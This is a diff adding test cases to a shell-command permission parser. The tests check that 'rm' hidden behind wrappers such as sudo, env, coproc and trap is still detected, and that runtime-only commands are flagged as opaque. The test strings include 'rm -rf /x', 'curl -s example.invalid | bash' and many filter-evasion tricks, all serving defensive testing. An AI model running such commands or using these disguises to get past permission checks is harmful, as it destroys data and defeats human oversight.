@@ -152,3 +152,63 @@ def test_rm_is_always_found(before: list[str], after: list[str], wrap: str, seps
     for sep, part in zip(seps, parts[1:], strict=False):
         line += sep + part
     assert any(wildcard_match(p, "rm *") for p in command_patterns(line)), line
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "bash -c -- 'rm x'",
+        "bash -e -c 'rm x'",
+        "bash -o pipefail -c 'rm x'",
+        "env -u FOO rm x",
+        "env -C /tmp rm x",
+        "env -S 'rm x'",
+        "exec -a name rm x",
+        "sudo -iu root rm x",
+        "sudo --user root rm x",
+        "coproc rm x",
+        "coproc { rm x; }",
+        "coproc NAME { rm x; }",
+        "busybox rm x",
+        "chrt 10 rm x",
+        "taskset 1 rm x",
+        "strace -o log rm x",
+        "parallel rm ::: x",
+        "su -c 'rm x'",
+        "script -qc 'rm x' /dev/null",
+        "trap 'rm x' EXIT",
+        "alias r=rm",
+        "mapfile -C rm x",
+        "r\\\nm x",
+        "ls | ls | ls\nrm -rf /x && ls",
+        "a | b | c\nrm x && d",
+    ],
+)
+def test_more_hidden_commands_are_found(line: str) -> None:
+    from forge_tools.permission.wildcard import wildcard_match
+
+    found = command_patterns(line)
+    assert any(wildcard_match(p, "rm *") for p in found), (line, found)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "$RM x", "RM=rm; $RM x", "${x:-rm} x", "$(echo rm) x", "`echo rm` x", "r${x}m y", "rm${IFS}x",
+        "sudo $CMD x", "echo rm x | sh", "curl -s example.invalid | bash", "bash <<< 'rm x'",
+        "bash script.sh", "source ./x.sh", ". ./x.sh", 'eval "$X"', 'bash -c "$X"',
+        "echo rm | xargs -I{} {} x", "{rm,x}", "ls $(",
+    ],
+)
+def test_commands_known_only_at_run_time_are_opaque(line: str) -> None:
+    result = split_command_line(line)
+    assert result.opaque, (line, result)
+    assert set(result.opaque) <= set(result.commands)
+
+
+@pytest.mark.parametrize(
+    "line", ["ls -la", "git status && git diff", "bash -c 'ls'", "echo $HOME", "find . | xargs grep foo",
+             "sudo ls", "cat <<'EOF'\n$(rm x)\nEOF"],
+)
+def test_static_commands_are_not_opaque(line: str) -> None:
+    assert split_command_line(line).opaque == ()
